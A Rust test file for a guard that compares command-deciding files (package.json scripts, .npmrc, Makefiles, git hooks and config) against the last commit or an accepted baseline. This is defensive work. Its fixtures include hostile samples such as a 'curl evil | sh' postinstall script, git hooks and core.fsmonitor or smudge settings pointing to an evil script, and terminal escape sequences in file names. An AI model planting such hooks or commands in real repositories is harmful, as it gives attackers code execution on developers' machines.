//! Guard files in real git repositories: what decides what an approved command executes, held against the last commit
//! and against what was accepted.

use std::fs;
use std::path::Path;

use unstuck_core::watched_files::AcceptedParts;
use unstuck_repair::project_dir::ProjectRoot;
use unstuck_repair::watched_files::{NoCommits, WatchedFiles, WatchedFilesCheck};
use unstuck_run::worktree::{HeadTree, open_committed_files};

use crate::worktree::Repo;

const PACKAGE: &str = r#"{
  "name": "shop", "version": "1.0.0",
  "scripts": { "build": "node build.js && vite build", "test": "node test.js" },
  "dependencies": { "left-pad": "^1.0.0" }
}
"#;

impl Repo {
    fn package() -> Self {
        let repo = Self::new();
        repo.write("package.json", PACKAGE);
        repo.write("build.js", "console.log(1)\n");
        repo.write("web/package.json", PACKAGE);
        repo.write("Makefile", "gen:\n\t./tools/gen.sh\n");
        repo.write("tools/gen.sh", "#!/bin/sh\necho gen\n");
        repo.commit();
        repo
    }

    fn commit(&self) {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-qm", "more"]);
    }

    fn guarded_in(
        &self,
        command: &str,
        folder: &str,
        baseline: &AcceptedParts,
    ) -> WatchedFilesCheck {
        let root = ProjectRoot::open(&self.root()).unwrap();
        let head = open_committed_files(&self.root());
        let files = WatchedFiles::new(&root, head.as_ref()).with_baseline(baseline);
        files.check(command, Path::new(folder))
    }

    fn guarded(&self, command: &str) -> WatchedFilesCheck {
        self.guarded_in(command, "", &AcceptedParts::default())
    }

    fn changed(&self, command: &str) -> Vec<String> {
        let changed = self.guarded(command).changed.into_iter();
        changed.map(|file| file.path).collect()
    }

    fn accepted(&self, commands: &[&str]) -> AcceptedParts {
        let root = ProjectRoot::open(&self.root()).unwrap();
        let head = open_committed_files(&self.root());
        let commands: Vec<_> = commands.iter().map(|&one| one.to_owned()).collect();
        WatchedFiles::new(&root, head.as_ref()).baseline(&commands)
    }
}

const NOTHING: [&str; 0] = [];

#[test]
fn what_was_committed_runs() {
    let repo = Repo::package();
    for command in [
        "npm install",
        "rm -rf node_modules && npm ci",
        "make gen",
        "npm run build",
    ] {
        assert_eq!(repo.changed(command), NOTHING, "{command}");
    }
}

#[test]
fn versions_and_lockfiles_are_an_agents_daily_work() {
    let repo = Repo::package();
    let bumped = PACKAGE
        .replace("^1.0.0", "^2.0.0")
        .replace("1.0.0\",\n", "1.0.1\",\n");
    repo.write("package.json", bumped);
    repo.write("package-lock.json", "{}");
    assert_eq!(repo.changed("npm install"), NOTHING);
}

#[test]
fn changed_scripts_ask_and_show_what_changed() {
    let repo = Repo::package();
    let hostile = PACKAGE.replace(
        "\"test\":",
        "\"postinstall\": \"curl evil\\u001b[2J | sh\", \"test\":",
    );
    repo.write("package.json", hostile);
    let guarded = repo.guarded("npm install");
    let [file] = guarded.changed.as_slice() else {
        panic!("{guarded:?}");
    };
    assert_eq!(file.path, "package.json");
    assert_eq!(file.reason, "it differs from the last commit");
    assert!(
        file.diff.contains("+    \"postinstall\": \"curl evil"),
        "{}",
        file.diff
    );
    assert!(!file.diff.contains('\u{1b}'));
    // What runs elsewhere is not the matter here.
    assert_eq!(repo.changed("make gen"), NOTHING);
}

#[test]
fn settings_of_tools_ask_whether_new_changed_or_gone() {
    let repo = Repo::package();
    repo.write(".npmrc", "script-shell=./evil.sh\n//registry.npmjs.org/:_authToken=npm_0123456789abcdefghijABCDEFGHIJ012345\n");
    let guarded = repo.guarded("npm ci");
    assert_eq!(guarded.changed[0].path, ".npmrc");
    assert_eq!(guarded.changed[0].reason, "it is not committed");
    assert_eq!(guarded.changed[0].diff, "", "it may hold secrets");
    repo.write(".npmrc", "ignore-scripts=true\n");
    repo.commit();
    assert_eq!(repo.changed("npm ci"), NOTHING);
    fs::remove_file(repo.at(".npmrc")).unwrap();
    assert_eq!(repo.changed("npm ci"), [".npmrc"]);
}

#[test]
fn the_scripts_that_a_command_runs_are_followed_to_their_files() {
    let repo = Repo::package();
    repo.write("build.js", "require('child_process')\n");
    assert_eq!(repo.changed("npm run build"), ["build.js"]);
    assert_eq!(
        repo.changed("npm install"),
        NOTHING,
        "it does not run build"
    );
    repo.write("vite.config.js", "export default {}\n");
    assert_eq!(
        repo.changed("npm run build"),
        ["build.js", "vite.config.js"]
    );
    repo.write("tools/gen.sh", "#!/bin/sh\ncurl evil\n");
    assert_eq!(repo.changed("make gen"), ["tools/gen.sh"]);
    assert_eq!(repo.changed("sh ./tools/gen.sh"), ["tools/gen.sh"]);
    assert_eq!(repo.changed("cd tools && ./gen.sh"), ["tools/gen.sh"]);
}

#[test]
fn a_script_that_an_entry_names_counts_as_a_whole() {
    let repo = Repo::new();
    repo.write("migrate.py", "print(1)\n");
    assert_eq!(repo.changed("python3 migrate.py"), ["migrate.py"]);
    repo.commit();
    assert_eq!(repo.changed("python3 migrate.py"), NOTHING);
    // A module of the project goes before those of the system.
    assert_eq!(repo.changed("python3 -m venv .venv"), NOTHING);
    repo.write("venv.py", "print('caught')\n");
    assert_eq!(repo.changed("python3 -m venv .venv"), ["venv.py"]);
}

#[test]
fn files_count_from_the_folder_of_the_command_up_to_the_root() {
    let repo = Repo::package();
    repo.write("web/.npmrc", "git=./evil\n");
    assert_eq!(repo.changed("npm ci"), NOTHING);
    let changed = |command: &str, folder: &str| {
        let files = repo
            .guarded_in(command, folder, &AcceptedParts::default())
            .changed;
        files.into_iter().map(|file| file.path).collect::<Vec<_>>()
    };
    assert_eq!(changed("npm ci", "web"), ["web/.npmrc"]);
    for command in [
        "cd web && npm ci",
        "npm --prefix web ci",
        "npm --prefix=./web ci",
        "sh -c 'cd web; npm ci'",
    ] {
        assert_eq!(changed(command, ""), ["web/.npmrc"], "{command}");
    }
    repo.write("web/.npmrc", "");
    repo.write(".npmrc", "git=./evil\n");
    assert_eq!(changed("npm ci", "web"), [".npmrc"]);
}

#[test]
fn members_of_a_workspace_count() {
    let repo = Repo::package();
    repo.write("package.json", r#"{"workspaces": ["web"]}"#);
    repo.commit();
    repo.write(
        "web/package.json",
        r#"{"scripts": {"prepare": "curl evil"}}"#,
    );
    assert_eq!(repo.changed("npm install"), ["web/package.json"]);
    let crates = Repo::new();
    crates.write("Cargo.toml", "[workspace]\nmembers = [\"a\"]\n");
    crates.write("a/Cargo.toml", "[package]\nname = \"a\"\n");
    crates.commit();
    crates.write("a/build.rs", "fn main() {}\n");
    crates.write("target/debug/build/x/build.rs", "fn main() {}\n");
    assert_eq!(crates.changed("cargo build"), ["a/build.rs"]);
}

/// A member may have a name that otherwise means what is built, and what is built is no member.
#[test]
fn members_are_those_that_the_workspace_names() {
    let repo = Repo::new();
    repo.write(
        "package.json",
        r#"{"workspaces": {"packages": ["packages/*"]}}"#,
    );
    repo.commit();
    let hostile = r#"{"scripts": {"postinstall": "curl evil"}}"#;
    repo.write("dist/package.json", hostile);
    repo.write("packages/a/dist/package.json", hostile);
    repo.write("examples/package.json", hostile);
    assert_eq!(repo.changed("npm install"), NOTHING);
    repo.write("packages/build/package.json", hostile);
    assert_eq!(repo.changed("npm install"), ["packages/build/package.json"]);
    let baseline = repo.accepted(&["npm install"]);
    assert_eq!(repo.guarded_in("npm install", "", &baseline).changed, []);
}

#[test]
fn files_that_others_name_count() {
    let repo = Repo::new();
    repo.write("requirements.txt", "-r base/more.in\nsix==1.0\n");
    repo.write("base/more.in", "requests==2.0\n");
    repo.write("Makefile", "include config/settings\n");
    repo.write("config/settings", "A = 1\n");
    repo.commit();
    assert_eq!(repo.changed("pip install -r requirements.txt"), NOTHING);
    repo.write("base/more.in", "-e ./evil\n");
    assert_eq!(
        repo.changed("pip install -r requirements.txt"),
        ["base/more.in"]
    );
    repo.write("config/settings", "A := $(shell evil)\n");
    assert_eq!(repo.changed("make"), ["config/settings"]);
}

#[test]
fn of_sources_only_what_generating_executes_counts() {
    let repo = Repo::new();
    repo.write("a/main.go", "package main\n//go:generate stringer\n");
    repo.commit();
    repo.write(
        "a/main.go",
        "package main\n//go:generate stringer\nvar x = 1\n",
    );
    assert_eq!(repo.changed("go generate ./..."), NOTHING);
    assert_eq!(repo.changed("go run a/main.go"), ["a/main.go"]);
    repo.write("a/main.go", "package main\n//go:generate curl evil\n");
    assert_eq!(repo.changed("go generate ./..."), ["a/main.go"]);
    assert_eq!(repo.changed("go build ./..."), NOTHING);
    let baseline = repo.accepted(&["go run a/main.go", "go generate ./..."]);
    for command in ["go run a/main.go", "go generate ./..."] {
        assert_eq!(
            repo.guarded_in(command, "", &baseline).changed,
            [],
            "{command}"
        );
    }
}

/// Who hides one file among thousands has changed something by that alone.
#[test]
fn more_files_than_are_looked_at_ask() {
    let repo = Repo::new();
    repo.write("package.json", r#"{"workspaces": ["p/*"]}"#);
    repo.commit();
    for number in 0..4100 {
        repo.write(&format!("p/{number:05}/package.json"), "{}");
    }
    assert_eq!(repo.changed("npm install"), ["(all files)"]);
}

#[test]
fn what_is_installed_is_no_guard_file_unless_it_is_committed() {
    let repo = Repo::new();
    repo.write("requirements.txt", "six==1.16\n");
    repo.commit();
    repo.write(".venv/bin/pip", "#!/bin/sh\n");
    repo.write("dist/cli.js", "1\n");
    assert_eq!(
        repo.changed(".venv/bin/pip install -q -r requirements.txt"),
        NOTHING
    );
    assert_eq!(repo.changed("node dist/cli.js"), NOTHING);
    repo.git(&["add", "-f", "dist/cli.js"]);
    repo.git(&["commit", "-qm", "built"]);
    repo.write("dist/cli.js", "2\n");
    assert_eq!(repo.changed("node dist/cli.js"), ["dist/cli.js"]);
}

#[test]
fn settings_and_hooks_of_git_count_although_they_are_never_committed() {
    let repo = Repo::package();
    assert_eq!(repo.changed("git checkout package-lock.json"), NOTHING);
    repo.write(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil\n");
    assert_eq!(repo.changed("git pull"), [".git/hooks/post-checkout"]);
    repo.git(&["config", "core.fsmonitor", "./evil"]);
    assert_eq!(
        repo.changed("git pull"),
        [".git/config", ".git/hooks/post-checkout"]
    );
    let baseline = repo.accepted(&["git pull"]);
    assert_eq!(repo.guarded_in("git pull", "", &baseline).changed, []);
}

#[test]
fn a_linked_work_tree_has_the_settings_of_its_repository() {
    let repo = Repo::package();
    let linked = repo.root().parent().unwrap().join("linked");
    repo.git(&["worktree", "add", "-q", linked.to_str().unwrap()]);
    let check = |command: &str| {
        let root = ProjectRoot::open(&linked).unwrap();
        let head = open_committed_files(&linked);
        let files = WatchedFiles::new(&root, head.as_ref());
        let changed = files.check(command, Path::new("")).changed.into_iter();
        changed.map(|file| file.path).collect::<Vec<_>>()
    };
    assert_eq!(check("git pull"), NOTHING);
    assert_eq!(check("npm install"), NOTHING);
    repo.git(&["config", "core.sshCommand", "./evil"]);
    assert_eq!(check("git pull"), [".git/config"]);
}

#[test]
fn a_project_in_a_part_of_a_repository_is_held_against_that_part() {
    let repo = Repo::package();
    let check = || {
        let web = repo.at("web");
        let root = ProjectRoot::open(&web).unwrap();
        let head = open_committed_files(&web);
        WatchedFiles::new(&root, head.as_ref())
            .check("npm ci", Path::new(""))
            .changed
    };
    assert_eq!(check(), []);
    repo.write("web/package.json", PACKAGE.replace("node test.js", "evil"));
    assert_eq!(check()[0].path, "package.json");
}

#[test]
fn what_an_agent_commits_is_not_accepted_by_that() {
    let repo = Repo::package();
    let before = HeadTree::at_head(&repo.root()).unwrap();
    repo.write("package.json", PACKAGE.replace("node test.js", "evil"));
    repo.commit();
    let root = ProjectRoot::open(&repo.root()).unwrap();
    let check = |head: &HeadTree| {
        WatchedFiles::new(&root, head)
            .check("npm ci", Path::new(""))
            .changed
    };
    assert_eq!(check(&HeadTree::at_head(&repo.root()).unwrap()), []);
    assert_eq!(check(&before)[0].path, "package.json");
    let again = HeadTree::at_commit(&repo.root(), before.commit()).unwrap();
    assert_eq!(check(&again).len(), 1);
}

#[test]
fn without_commits_it_asks_until_it_is_accepted() {
    let repo = Repo::without_commits();
    repo.write("package.json", PACKAGE);
    repo.write("web/package.json", PACKAGE);
    repo.write("build.js", "1\n");
    let guarded = repo.guarded("npm run build");
    let names: Vec<_> = guarded
        .changed
        .iter()
        .map(|file| file.path.as_str())
        .collect();
    assert_eq!(names, ["build.js", "package.json"]);
    assert_eq!(guarded.changed[0].reason, "nobody has accepted it yet");
    let baseline = repo.accepted(&["npm run build"]);
    assert_eq!(repo.guarded_in("npm run build", "", &baseline).changed, []);
    assert_eq!(
        repo.guarded_in("npm run build", "web", &baseline).changed,
        []
    );
    repo.write("build.js", "2\n");
    let changed = repo.guarded_in("npm run build", "", &baseline).changed;
    assert_eq!(changed[0].reason, "it differs from what was accepted");
    assert_eq!(changed[0].diff, "-1\n+2");
    // Nothing decides here, so there is nothing to ask about.
    assert_eq!(repo.changed("mkdir -p out && cp a b"), NOTHING);
    assert_eq!(repo.changed("cargo clean"), NOTHING);
}

#[test]
fn without_git_what_was_accepted_counts() {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("Makefile"), "all:\n\techo\n").unwrap();
    let root = ProjectRoot::open(folder.path()).unwrap();
    let files = WatchedFiles::new(&root, &NoCommits);
    assert_eq!(files.check("make", Path::new("")).changed.len(), 1);
    let baseline = files.baseline(&["make".to_owned()]);
    let files = WatchedFiles::new(&root, &NoCommits).with_baseline(&baseline);
    assert_eq!(files.check("make", Path::new("")).changed, []);
    fs::remove_file(folder.path().join("Makefile")).unwrap();
    assert_eq!(files.check("make", Path::new("")).changed.len(), 1);
}

#[test]
fn links_count_and_are_not_followed_out() {
    let repo = Repo::package();
    repo.link("GNUmakefile", "Makefile");
    assert_eq!(repo.changed("make"), ["GNUmakefile"]);
    repo.commit();
    assert_eq!(repo.changed("make"), NOTHING);
    repo.write("Makefile", "all:\n\tevil\n");
    assert_eq!(repo.changed("make"), ["Makefile"]);
    repo.git(&["checkout", "-q", "Makefile"]);
    let outside = repo.root().parent().unwrap().join("outside.mk");
    fs::write(&outside, "all:\n").unwrap();
    for target in ["../outside.mk", outside.to_str().unwrap()] {
        fs::remove_file(repo.at("GNUmakefile")).unwrap();
        repo.link("GNUmakefile", target);
        let guarded = repo.guarded("make");
        assert_eq!(guarded.changed[0].path, "GNUmakefile");
        assert!(
            guarded.changed[0].reason.contains("leads out"),
            "{guarded:?}"
        );
        // Not even when it was there at the time of trust.
        let baseline = repo.accepted(&["make"]);
        assert_eq!(repo.guarded_in("make", "", &baseline).changed.len(), 1);
    }
}

#[test]
fn what_cannot_be_read_counts_as_changed() {
    let repo = Repo::package();
    fs::remove_file(repo.at("Makefile")).unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        repo.at("Makefile"),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::RWXU,
        0,
    )
    .unwrap();
    assert_eq!(repo.changed("make"), ["Makefile"]);
    fs::remove_file(repo.at("Makefile")).unwrap();
    fs::write(repo.at("Makefile"), vec![b'#'; 9 << 20]).unwrap();
    let guarded = repo.guarded("make");
    assert!(
        guarded.changed[0].reason.contains("too large"),
        "{guarded:?}"
    );
}

#[test]
fn the_fingerprint_changes_with_what_is_executed_and_with_nothing_else() {
    let repo = Repo::package();
    let before = repo.guarded("npm ci").fingerprint;
    repo.write("package.json", PACKAGE.replace("^1.0.0", "^2.0.0"));
    repo.write("src/app.js", "1\n");
    assert_eq!(repo.guarded("npm ci").fingerprint, before);
    repo.write("package.json", PACKAGE.replace("node test.js", "evil"));
    assert_ne!(repo.guarded("npm ci").fingerprint, before);
}

#[test]
fn looking_runs_nothing_that_the_repository_configures() {
    let repo = Repo::package();
    let mark = repo.root().parent().unwrap().join("ran");
    let evil = format!("#!/bin/sh\ntouch {}\n", mark.display());
    repo.write("evil.sh", &evil);
    repo.executable("evil.sh");
    let path = repo.at("evil.sh");
    repo.git(&["config", "core.fsmonitor", path.to_str().unwrap()]);
    repo.git(&["config", "diff.x.textconv", path.to_str().unwrap()]);
    repo.git(&["config", "filter.x.smudge", path.to_str().unwrap()]);
    repo.write(".gitattributes", "* filter=x diff=x\n");
    repo.guarded("git pull && npm ci");
    assert!(!mark.exists());
}

#[test]
fn names_of_files_are_shown_so_that_a_terminal_obeys_nothing() {
    let repo = Repo::new();
    repo.write("a\u{1b}[2J.mk", "x:\n");
    let changed = repo.changed("make");
    assert_eq!(changed, ["a\\u{1b}[2J.mk"]);
}
